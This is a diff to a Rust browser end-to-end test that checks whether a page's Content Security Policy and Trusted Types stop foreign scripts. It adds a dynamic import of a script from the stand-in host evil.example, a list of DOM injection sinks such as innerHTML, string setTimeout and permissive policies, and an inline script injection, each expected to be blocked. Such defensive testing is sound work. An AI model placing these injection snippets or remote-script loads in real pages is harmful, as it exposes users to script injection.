@@ -5,11 +5,33 @@ use e2e::{Card, Stage, journey};
 use sandbox::story;
 use serde_json::json;
 
+/// A script of another host, by the one way that needs no element: the policy has to stop it before it is asked for.
+const IMPORT: &str = "\
+    const done = arguments[arguments.length - 1];
+    document.addEventListener('securitypolicyviolation', report => done(report.effectiveDirective), { once: true });
+    import('https://evil.example/a.js').then(() => done('ran'), () => {});";
+
+/// A script that stands in the page without being one of the page's.
 const INJECT: &str = "\
     const script = document.createElement('script');
-    script.textContent = 'document.documentElement.dataset.injected = \"yes\"';
+    script.append('document.documentElement.dataset.injected = \"yes\"');
     document.head.append(script);
     return document.documentElement.dataset.injected ?? 'no';";
+
+/// What makes of a text something that runs: elements, a script, an address of one, and a rule that lets them pass.
+const SINKS: &str = "\
+    const sinks = {
+        elements: () => document.createElement('div').innerHTML = '<b></b>',
+        insertion: () => document.body.insertAdjacentHTML('beforeend', '<b></b>'),
+        document: () => new DOMParser().parseFromString('<b></b>', 'text/html'),
+        script: () => document.createElement('script').text = '0',
+        address: () => document.createElement('script').src = '/a.js',
+        timer: () => setTimeout('0'),
+        rule: () => trustedTypes.createPolicy('any', { createHTML: text => text }),
+        default_rule: () => trustedTypes.createPolicy('default', { createHTML: text => text }),
+    };
+    const passes = sink => { try { sinks[sink](); return true; } catch { return false; } };
+    return Object.keys(sinks).filter(passes);";
 
 /// An address that nothing answers: the policy has to stop the request before it is one.
 const CONNECT: &str = "\
@@ -55,6 +77,13 @@ async fn the_policy_of_the_plain_page_stops_a_foreign_script_and_an_open_line() 
 }
 
 async fn no_foreign_script(stage: &Stage) -> Result<()> {
+    let stopped = stage.browser.driver().execute_async(IMPORT, vec![]).await?;
+    ensure!(stopped.json() == "script-src-elem", "{:?}", stopped.json());
+    stage.expect_in_console("TrustedHTML");
+    stage.expect_in_console("TrustedScript");
+    stage.expect_in_console("TrustedTypePolicy");
+    let passing: Vec<String> = stage.browser.script(SINKS, vec![]).await?;
+    ensure!(passing.is_empty(), "a text becomes code by {passing:?}");
     let injected: String = stage.browser.script(INJECT, vec![]).await?;
     ensure!(injected == "no", "a foreign script ran");
     Ok(())
